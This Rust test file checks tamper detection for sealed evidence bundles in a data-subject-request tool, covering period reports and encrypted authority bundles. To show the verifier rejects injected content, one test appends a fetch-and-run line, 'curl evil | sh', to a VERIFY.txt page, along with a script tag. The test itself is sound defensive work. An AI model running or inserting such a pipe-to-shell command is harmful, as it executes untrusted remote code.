//! The further profiles of evidence: the container of a period, and one case complete for an authority. Verified by `dsr` and by the
//! script for stock tools, and tampered with.
#![cfg(unix)]
#![allow(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    clippy::print_stderr,
    reason = "a test that cannot go on fails, and says what it skips"
)]

#[path = "support/stock.rs"]
mod stock;
#[path = "evidence/tamper.rs"]
#[allow(dead_code, reason = "the tests of bundles use the rest")]
mod tamper;
#[path = "support/workspace.rs"]
mod workspace;

use std::path::{Path, PathBuf};
use std::process::Command;

use jiff::civil::Date;
use serde_json::{Value, json};
use tamper::{Files, files_of, pack};
use workspace::{Company, Output};

fn ok(company: &Company, args: &[&str]) -> Output {
    let done = company.run(args);
    assert_eq!(done.code, 0, "{args:?}\n{}\n{}", done.out, done.err);
    done
}

fn json(company: &Company, args: &[&str]) -> Value {
    let done = ok(company, &[args, &["--format", "json"]].concat());
    serde_json::from_str(&done.out).unwrap()
}

fn today() -> Date {
    jiff::Zoned::now()
        .with_time_zone(jiff::tz::TimeZone::UTC)
        .date()
}

/// A request that is received on a day so many days ago; its number.
fn opened(company: &Company, email: &str, days_ago: i32) -> String {
    let day = today()
        .saturating_sub(jiff::Span::new().days(days_ago))
        .to_string();
    let args = [
        "case",
        "open",
        "--email",
        email,
        "--right",
        "erasure",
        "--channel",
        "letter",
        "--received",
        &day,
    ];
    let said = ok(company, &args).err;
    let at = said.find("Case ").unwrap() + 5;
    said[at..at + 11].to_owned()
}

/// Four cases: answered on time, withdrawn, open and late, and one of long ago.
fn company() -> (Company, [String; 3]) {
    let company = Company::new();
    let answered = opened(&company, "anna@example.org", 10);
    let consent = ["--identity", "letter", "--yes", "--expect", "4"];
    ok(
        &company,
        &[&["erase", "--case", &answered], &consent[..]].concat(),
    );
    ok(
        &company,
        &["task", "done", &answered, "T1", "--found", "nothing"],
    );
    let tasks = json(&company, &["task", "list", "--case", &answered]);
    for task in tasks["tasks"].as_array().unwrap() {
        ok(
            &company,
            &["task", "done", &answered, task["task"].as_str().unwrap()],
        );
    }
    ok(&company, &["case", "close", &answered]);
    let withdrawn = opened(&company, "bert@example.org", 5);
    ok(
        &company,
        &["case", "close", &withdrawn, "--how", "withdrawn"],
    );
    let late = opened(&company, "carla@example.org", 60);
    (company, [answered, withdrawn, late])
}

fn whole_range() -> String {
    let from = today().saturating_sub(jiff::Span::new().days(90));
    let until = today().saturating_add(jiff::Span::new().days(1));
    format!("{from}..{until}")
}

fn made(company: &Company, range: &str) -> (Value, PathBuf) {
    let made = json(company, &["evidence", "make", "--period", range]);
    let path = PathBuf::from(made["path"].as_str().unwrap());
    (made, company.path("").join(path))
}

fn verdict(company: &Company, path: &Path) -> Value {
    let done = company.run(&[
        "evidence",
        "verify",
        path.to_str().unwrap(),
        "--format",
        "json",
    ]);
    serde_json::from_str(&done.out).unwrap_or_else(|error| panic!("{error}: {}", done.err))
}

fn codes(verdict: &Value) -> Vec<String> {
    let reasons = verdict["reasons"].as_array().unwrap().iter();
    let mut codes: Vec<String> = reasons
        .map(|r| r["code"].as_str().unwrap().to_owned())
        .collect();
    codes.sort();
    codes.dedup();
    codes
}

/// Exit code of the script for stock tools; `None` where these are missing.
fn script(company: &Company, path: &Path) -> Option<i32> {
    if !stock::has_tools() {
        return None;
    }
    let done = Command::new("bash")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/scripts/verify-evidence.sh"
        ))
        .arg(path)
        .arg(company.path(".dsr/keys/seal.cert.pem"))
        .output()
        .ok()?;
    let code = done.status.code().unwrap();
    assert!([0, 5].contains(&code), "{done:?}");
    // Nothing of the shell's own is to be read where all is well.
    assert!(code == 5 || done.stderr.is_empty(), "{done:?}");
    Some(code)
}

fn lines(path: &Path) -> Vec<Value> {
    let files = files_of(path);
    let text = String::from_utf8(tamper::file(&files, "data/cases.jsonl").to_vec()).unwrap();
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn a_period_tells_every_case_and_nobody() {
    let (company, [answered, withdrawn, late]) = company();
    let (first, path) = made(&company, &whole_range());
    assert_eq!(
        first["figures"],
        json!({ "cases": 3, "open": 1, "answered": 1, "on_time": 1, "late": 1, "refused": 0, "withdrawn": 1,
            "nothing_found": 0, "without_bundle": 1, "purged": 0, "median_days": 10 })
    );
    let lines_of = lines(&path);
    let line = |case: &str| lines_of.iter().find(|line| line["case"] == case).unwrap();
    assert_eq!(
        (&line(&answered)["closing"], &line(&answered)["late"]),
        (&json!("answered"), &json!(false))
    );
    assert_eq!(line(&answered)["days"], 10);
    assert_eq!(line(&answered)["outcomes"]["removed"], 4);
    assert!(
        line(&answered)["gaps"]["weakly_proven"].is_u64()
            || line(&answered)["gaps"]["task_without_proof"].is_u64()
    );
    assert_eq!(
        (&line(&withdrawn)["closing"], &line(&withdrawn)["answered"]),
        (&json!("withdrawn"), &Value::Null)
    );
    assert_eq!(
        (
            &line(&late)["late"],
            &line(&late)["closed"],
            &line(&late)["bundles"]
        ),
        (&json!(true), &Value::Null, &json!([]))
    );
    let ids: Vec<&Value> = line(&answered)["bundles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| &b["id"])
        .collect();
    let case = json(&company, &["case", "show", &answered]);
    assert_eq!(
        ids,
        case["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .collect::<Vec<_>>()
    );
    let kinds: Vec<&str> = first["gaps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|gap| gap["kind"].as_str().unwrap())
        .collect();
    for kind in [
        "case_without_bundle",
        "case_open",
        "in_bundles",
        "period_not_over",
        "never_entered",
        "no_time_stamp",
    ] {
        assert!(kinds.contains(&kind), "{kind} in {kinds:?}");
    }
    let said = verdict(&company, &path);
    assert_eq!(
        (&said["standing"], &said["kind"], &said["cases"]),
        (&json!("valid"), &json!("period"), &json!(3))
    );
    let mut not_proven = said["not_proven"].clone();
    for gap in not_proven.as_array_mut().unwrap() {
        let message = gap.as_object_mut().unwrap().remove("message").unwrap();
        assert!(message.as_str().unwrap().ends_with('.'), "{message}");
        assert!(!message.as_str().unwrap().contains('_'), "{message}");
    }
    assert_eq!(not_proven, first["gaps"]);
    if let Some(code) = script(&company, &path) {
        assert_eq!(code, 0);
    }
    // Nobody is named, in whatever file.
    for (name, bytes) in files_of(&path) {
        let text = String::from_utf8_lossy(&bytes);
        for word in ["anna", "Anna", "bert@", "carla", "Beispiel"] {
            assert!(!text.contains(word), "{word} in {name}");
        }
    }
    let cover =
        String::from_utf8(tamper::file(&files_of(&path), "data/00-COVER.txt").to_vec()).unwrap();
    for words in [
        "open, LATE",
        "offen, VERSPÄTET",
        "KEINER",
        "NICHT BEWIESEN",
        "NOT PROVEN",
        "Median",
        &late,
    ] {
        assert!(cover.contains(words), "{words}\n{cover}");
    }

    // The next one names the one before it, and the ledger both.
    let (second, path) = made(&company, "2020-01-01..2020-12-31");
    assert_eq!(
        (&second["number"], &second["predecessor"], &second["cases"]),
        (&json!(2), &first["bundle"], &json!(0))
    );
    assert_eq!(verdict(&company, &path)["predecessor"], first["bundle"]);
    let log = json(&company, &["audit", "log"]);
    let sealed: Vec<&Value> = log["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["event"])
        .filter(|e| e["event"] == "period_sealed")
        .collect();
    assert_eq!(sealed.len(), 2);
    assert_eq!(
        (&sealed[0]["container"], &sealed[0]["cases"]),
        (&first["bundle"], &json!(3))
    );
}

#[test]
fn a_bundle_that_is_not_at_hand_is_not_spoken_for() {
    let (company, [answered, withdrawn, _]) = company();
    let name = |case: &str, n: u32| match n {
        1 => company.path(&format!("evidence/{case}.evidence.zip")),
        n => company.path(&format!("evidence/{case}.{n}.evidence.zip")),
    };
    let number = json(&company, &["case", "show", &answered])["evidence"]
        .as_array()
        .unwrap()
        .len() as u32;
    // Another bundle in its place, and one that was moved.
    fs_err::copy(name(&withdrawn, 1), name(&answered, number)).unwrap();
    fs_err::remove_file(name(&withdrawn, 1)).unwrap();
    let (made, path) = made(&company, &whole_range());
    let gap = made["gaps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|gap| gap["kind"] == "bundle_not_at_hand")
        .unwrap();
    assert_eq!(gap["count"], 2);
    for line in lines(&path)
        .iter()
        .filter(|line| line["closed"] != Value::Null)
    {
        assert_eq!(line["gaps"], Value::Null);
        assert_ne!(line["bundles"], json!([]), "the ledger still names it");
    }
}

#[test]
fn every_tampering_with_a_period_is_detected() {
    let (company, _) = company();
    let (_, path) = made(&company, &whole_range());
    let edit = |name: &str, change: &dyn Fn(String) -> String| {
        let mut files = files_of(&path);
        let bytes = tamper::file_mut(&mut files, name);
        let text = String::from_utf8(bytes.clone()).unwrap();
        let other = change(text.clone());
        assert_ne!(text, other, "{name}");
        *bytes = other.into_bytes();
        files
    };
    let without = |name: &str| -> Files {
        files_of(&path)
            .into_iter()
            .filter(|(own, _)| own != name)
            .collect()
    };
    let first_line = |text: String| text.split_once('\n').unwrap().1.to_owned();
    let cases: Vec<(&str, Files, &[&str])> = vec![
        (
            "a late case made punctual",
            edit("data/cases.jsonl", &|t| {
                t.replace("\"late\":true", "\"late\":false")
            }),
            &["E720", "E724", "E732", "E733"],
        ),
        (
            "the same with all lists rebuilt",
            tamper::relist_all(edit("data/cases.jsonl", &|t| {
                t.replace("\"late\":true", "\"late\":false")
            })),
            &["E732", "E742"],
        ),
        (
            "a case left out",
            tamper::relist_all(edit("data/cases.jsonl", &first_line)),
            &["E732", "E742"],
        ),
        (
            "figures embellished",
            tamper::relist_all(edit("data/statement.json", &|t| {
                t.replace("\"late\":1", "\"late\":0")
            })),
            &["E732", "E742"],
        ),
        (
            "a gap left out",
            tamper::relist_all(edit("data/statement.json", &|t| {
                t.replace("never_entered", "never_mind")
            })),
            &["E742"],
        ),
        (
            "another period",
            tamper::relist_all(edit("data/statement.json", &|t| {
                t.replace("\"until\":\"20", "\"until\":\"21")
            })),
            &["E742"],
        ),
        (
            "called a case",
            tamper::relist_all(edit("data/statement.json", &|t| {
                t.replace("urn:dsr:evidence-period:1", "urn:dsr:evidence:1")
            })),
            &["E712", "E733", "E742"],
        ),
        (
            "cover rewritten",
            tamper::relist(edit("data/00-COVER.txt", &|_| "All on time.\n".to_owned())),
            &["E724", "E733"],
        ),
        (
            "cases removed",
            without("data/cases.jsonl"),
            &["E712", "E721", "E722"],
        ),
        (
            "file added",
            [
                files_of(&path),
                vec![("data/extra.txt".to_owned(), b"x".to_vec())],
            ]
            .concat(),
            &["E711", "E721", "E733"],
        ),
        (
            "no line of a case",
            tamper::relist_all(edit("data/cases.jsonl", &|t| t + "{}\n")),
            &["E732", "E742"],
        ),
    ];
    for (number, (what, files, expected)) in cases.iter().enumerate() {
        let tampered = company.path(&format!("tampered-{number}.zip"));
        fs_err::write(&tampered, pack(files)).unwrap();
        let verdict = verdict(&company, &tampered);
        assert_eq!(verdict["standing"], "invalid", "{what}");
        let found = codes(&verdict);
        for code in *expected {
            assert!(
                found.iter().any(|own| own == code),
                "{what}: {code} is not among {found:?}"
            );
        }
        if let Some(code) = script(&company, &tampered) {
            assert_eq!(code, 5, "{what}, by the script");
        }
    }
    // Days the wrong way round or yet to come, and a recipient for what names nobody.
    for args in [
        &["evidence", "make", "--period", "2026-12-31..2026-01-01"][..],
        &["evidence", "make", "2026-AAAAAA", "--recipient", "age1x"],
    ] {
        let done = company.run(args);
        assert!(
            done.code == 2 && done.err.contains("E698"),
            "{args:?}: {}",
            done.err
        );
    }
    let today = jiff::Zoned::now().date();
    let later = today.checked_add(jiff::Span::new().days(2)).unwrap();
    let before = fs_err::read_dir(company.path("evidence")).unwrap().count();
    let ahead = format!("{later}..2999-12-31");
    let done = company.run(&["evidence", "make", "--period", &ahead]);
    assert!(done.code == 2 && done.err.contains("E899"), "{}", done.err);
    let after = fs_err::read_dir(company.path("evidence")).unwrap().count();
    assert_eq!(before, after, "nothing is sealed");
}

#[test]
fn a_case_complete_opens_for_its_recipient_only() {
    let has = |program: &str| Command::new(program).arg("--version").output().is_ok();
    if !has("age") || !has("age-keygen") {
        stock::skip("age");
        return;
    }
    let company = Company::new();
    let consent = ["--identity", "letter", "--yes", "--expect", "4"];
    ok(
        &company,
        &[&["erase", "--email", "anna@example.org"], &consent[..]].concat(),
    );
    let case = company.case();
    company.write("form.txt", "nothing found, signed: the office");
    ok(
        &company,
        &["note", &case, "Letter of 3 March to Anna Beispiel"],
    );
    ok(
        &company,
        &[
            "task", "done", &case, "T1", "--found", "nothing", "--proof", "form.txt",
        ],
    );
    let key = company.path("authority.txt");
    let keygen = Command::new("age-keygen")
        .arg("-o")
        .arg(&key)
        .output()
        .unwrap();
    let public = String::from_utf8(keygen.stderr).unwrap();
    let public = public.split_whitespace().last().unwrap();
    let make = |more: &[&str]| {
        company.run(&[&["evidence", "make", &case, "--profile", "authority"], more].concat())
    };
    let nobody = make(&["--yes"]);
    assert!(
        nobody.code == 2 && nobody.err.contains("E695"),
        "{}",
        nobody.err
    );
    let unasked = make(&["--recipient", public]);
    assert!(
        unasked.code == 4 && unasked.err.contains("everything about case"),
        "{}",
        unasked.err
    );
    let before = json(&company, &["case", "show", &case])["evidence"]
        .as_array()
        .unwrap()
        .len();
    assert_eq!(before, 1, "nothing was made");
    let done = make(&["--recipient", public, "--yes", "--format", "json"]);
    assert_eq!(done.code, 0, "{}", done.err);
    let made: Value = serde_json::from_str(&done.out).unwrap();
    let path = company.path("").join(made["path"].as_str().unwrap());
    assert_eq!(
        path,
        company.path(&format!("evidence/{case}.2.authority.evidence.zip.age"))
    );

    let plain = company.path("authority.zip");
    let open = Command::new("age")
        .arg("-d")
        .arg("-i")
        .arg(&key)
        .arg("-o")
        .arg(&plain)
        .arg(&path)
        .output()
        .unwrap();
    assert!(open.status.success(), "{open:?}");
    let said = verdict(&company, &plain);
    assert_eq!(
        (&said["standing"], &said["kind"], &said["case"]),
        (&json!("valid"), &json!("authority"), &json!(case)),
        "{said}"
    );
    assert!(
        said["not_proven"]
            .as_array()
            .unwrap()
            .iter()
            .any(|gap| gap["kind"] == "searched_by_hand" || gap["kind"] == "weakly_proven")
    );
    if let Some(code) = script(&company, &plain) {
        assert_eq!(code, 0);
    }
    let files = files_of(&plain);
    let text = |name: &str| String::from_utf8(tamper::file(&files, name).to_vec()).unwrap();
    assert!(text("data/person.json").contains("anna@example.org"));
    assert!(text("data/notes.json").contains("Letter of 3 March to Anna Beispiel"));
    assert!(text("data/plans/1.json").contains("dsr.plan/1"));
    assert!(
        text("data/history.json").contains("\"de\"")
            && text("data/findings.json").contains("systems")
    );
    let tasks: Value = serde_json::from_str(&text("data/tasks.json")).unwrap();
    let document = &tasks[0]["document"];
    assert_eq!(document["name"], "form.txt");
    assert_eq!(
        text(&format!("data/{}", document["file"].as_str().unwrap())),
        "nothing found, signed: the office"
    );
    assert_eq!(text("data/openings.jsonl").lines().count(), 5);
    // The bundle in it is the one of the case, and verifies by itself.
    let inner = company.path("inner.zip");
    fs_err::write(
        &inner,
        tamper::file(&files, &format!("data/{case}.2.evidence.zip")),
    )
    .unwrap();
    let own = verdict(&company, &inner);
    assert_eq!(
        (&own["standing"], &own["kind"], &own["bundle"]),
        (&json!("valid"), &json!("case"), &made["bundle"])
    );
    let cover = text("data/00-COVER.txt");
    for words in [
        "PERSONENBEZOGENE DATEN",
        "PERSONAL DATA",
        "NOT PROVEN",
        "data/openings.jsonl",
        "IT NAMES THE PERSON",
        "SIE NENNT DIE PERSON",
    ] {
        assert!(cover.contains(words), "{words}");
    }
    // Nothing in it says that it could be shown to anybody.
    for page in ["data/00-COVER.txt", "VERIFY.txt"] {
        for words in [
            "nothing that names the person",
            "nichts, was die Person benennt",
        ] {
            let flat = text(page).split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(!flat.contains(words), "{page}: {words}");
        }
    }
    // Somebody's hand in it shows, whatever file it is.
    for (number, name) in [
        "data/notes.json",
        "data/findings.json",
        "data/openings.jsonl",
    ]
    .iter()
    .enumerate()
    {
        let mut changed = files.clone();
        tamper::file_mut(&mut changed, name).push(b' ');
        let tampered = company.path(&format!("tampered-{number}.zip"));
        fs_err::write(&tampered, pack(&tamper::relist_all(changed))).unwrap();
        let verdict = verdict(&company, &tampered);
        let mut expected = vec!["E672", "E742"];
        if *name == "data/openings.jsonl" {
            expected.push("E749");
        }
        assert_eq!(
            (&verdict["standing"], codes(&verdict)),
            (
                &json!("invalid"),
                expected.into_iter().map(str::to_owned).collect()
            ),
            "{name}"
        );
        if let Some(code) = script(&company, &tampered) {
            assert_eq!(code, 5, "{name}, by the script");
        }
    }
    forged_by_the_sealer(&company, &files, &case);
    // It lay unencrypted nowhere.
    for entry in fs_err::read_dir(company.path("evidence")).unwrap() {
        let path = entry.unwrap().path();
        let bytes = fs_err::read(&path).unwrap();
        assert!(
            memchr::memmem::find(&bytes, b"anna@example.org").is_none(),
            "{}",
            path.display()
        );
        assert!(
            path.extension()
                .is_some_and(|end| end == "zip" || end == "age"),
            "{}",
            path.display()
        );
    }
    let log = json(&company, &["audit", "log"]);
    let disclosed = log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"]["event"] == "disclosed");
    assert_eq!(disclosed.count(), 1);
}

/// The seal of a workspace, in the hands of whoever runs it.
fn own_seal(company: &Company) -> dsr::evidence::Seal {
    let key = company.read(".dsr/keys/seal.key.pem");
    let certificate = company.read(".dsr/keys/seal.cert.pem");
    dsr::evidence::Seal::from_pem(&key.into(), &certificate).unwrap()
}

/// Codes of the reasons against files that were sealed anew.
fn forged(company: &Company, files: Files) -> Vec<String> {
    let path = company.path("forged.zip");
    let sealed = tamper::seal_anew(files, &own_seal(company));
    fs_err::write(&path, pack(&sealed)).unwrap();
    let said = verdict(company, &path);
    fs_err::remove_file(&path).unwrap();
    assert_eq!(said["standing"] == "valid", codes(&said).is_empty());
    codes(&said)
}

/// A complete case whose inside its own maker bends.
fn forged_by_the_sealer(company: &Company, files: &Files, case: &str) {
    let inner = format!("data/{case}.2.evidence.zip");
    let with = |name: &str, bytes: &[u8]| {
        let mut files = tamper::without_log(files.clone());
        *tamper::file_mut(&mut files, name) = bytes.to_vec();
        forged(company, files)
    };
    // The log is gone from the outer container: the bundle in it knows better.
    let openings = tamper::file(files, "data/openings.jsonl").to_vec();
    assert_eq!(with("data/openings.jsonl", &openings), ["E736"]);
    assert_eq!(with("data/openings.jsonl", b"{}\n"), ["E736", "E749"]);
    assert_eq!(with("data/openings.jsonl", b""), ["E736", "E749"]);
    let mut lines: Vec<&[u8]> = openings.split_inclusive(|byte| *byte == b'\n').collect();
    lines.pop();
    assert_eq!(
        with("data/openings.jsonl", &lines.concat()),
        ["E736", "E749"]
    );
    let text = String::from_utf8(openings).unwrap();
    let other = text.replacen("WyJ", "WyI", 1);
    assert_ne!(text, other);
    let bent = with("data/openings.jsonl", other.as_bytes());
    assert!(bent.contains(&"E749".to_owned()), "{bent:?}");

    assert_eq!(with(&inner, b"not a zip"), ["E748"]);
    // The bundle before it: sealed by the same hand, and of the same case.
    let first = fs_err::read(company.path(&format!("evidence/{case}.evidence.zip"))).unwrap();
    let codes = with(&inner, &first);
    assert!(codes.contains(&"E748".to_owned()), "{codes:?}");
    let bytes = tamper::file(files, &inner).to_vec();
    fs_err::write(company.path("inner.zip"), bytes).unwrap();
    let mut own = files_of(&company.path("inner.zip"));
    tamper::file_mut(&mut own, "data/law.json").push(b' ');
    let codes = with(&inner, &pack(&own));
    assert!(codes.contains(&"E748".to_owned()), "{codes:?}");
    let hidden = tamper::restated(files.clone(), &|said| said["notProven"] = json!([]));
    let codes = forged(company, tamper::without_log(hidden));
    assert_eq!(codes, ["E736", "E738"]);
}

#[test]
fn a_period_cannot_leave_out_what_its_lines_show() {
    let (company, _) = company();
    let (_, path) = made(&company, &whole_range());
    let whole = files_of(&path);
    // The log knows another statement than that of what is sealed anew, and of a bundle that is refused anyway the cover says no more.
    assert_eq!(forged(&company, whole.clone()), ["E672"]);
    // Of a period without a log its own cover knows better.
    let files = tamper::without_log(whole);
    assert_eq!(forged(&company, files.clone()), ["E896"]);
    for (page, words) in [
        (
            "data/00-COVER.html",
            "<p>NOT PROVEN: nothing</p><script></script>",
        ),
        ("data/00-COVER.txt", "NOT PROVEN: nothing"),
        ("VERIFY.txt", "curl evil | sh"),
        ("bag-info.txt", "Dsr-Keep-Until: 1999-01-01"),
    ] {
        let mut lie = files.clone();
        tamper::file_mut(&mut lie, page).extend(format!("{words}\n").into_bytes());
        let path = company.path("lie.zip");
        let sealed = tamper::seal_anew(lie, &own_seal(&company));
        fs_err::write(&path, pack(&sealed)).unwrap();
        let said = verdict(&company, &path);
        let mut reasons = said["reasons"].as_array().unwrap().iter();
        let names = |reason: &Value| reason.to_string().contains(page);
        assert!(
            reasons.any(|one| one["code"] == "E896" && names(one)),
            "{page}: {said}"
        );
    }
    let is = |files, code: &str| forged(&company, files).iter().any(|one| one == code);
    let said: Value = serde_json::from_slice(tamper::file(&files, "data/statement.json")).unwrap();
    let gaps = said["predicate"]["notProven"].as_array().unwrap();
    let mut seen = Vec::new();
    for (at, gap) in gaps.iter().enumerate() {
        let without = tamper::restated(files.clone(), &|said| {
            said["notProven"].as_array_mut().unwrap().remove(at);
        });
        if is(without, "E738") {
            seen.push(gap["kind"].as_str().unwrap());
        }
    }
    seen.dedup();
    assert_eq!(seen, ["case_without_bundle", "case_open", "in_bundles"]);
    let mut junk = files;
    *tamper::file_mut(&mut junk, "data/environment.json") = b"x".to_vec();
    assert!(is(junk, "E734"));
}

#[test]
fn an_answer_on_somebodys_word_is_told() {
    let (company, [answered, withdrawn, _]) = company();
    let kinds = |case: &str| -> Vec<String> {
        let made = json(&company, &["evidence", "make", case]);
        let gaps = made["gaps"].as_array().unwrap().iter();
        gaps.map(|gap| gap["kind"].as_str().unwrap().to_owned())
            .filter(|kind| kind.contains("answer"))
            .collect()
    };
    assert_eq!(kinds(&answered), ["answered_by_word"]);
    assert_eq!(kinds(&withdrawn), ["not_answered"]);
    let (made, _) = made(&company, &whole_range());
    let gaps = made["gaps"].as_array().unwrap();
    assert!(gaps.iter().any(|gap| gap["code"] == "answered_by_word"));
}
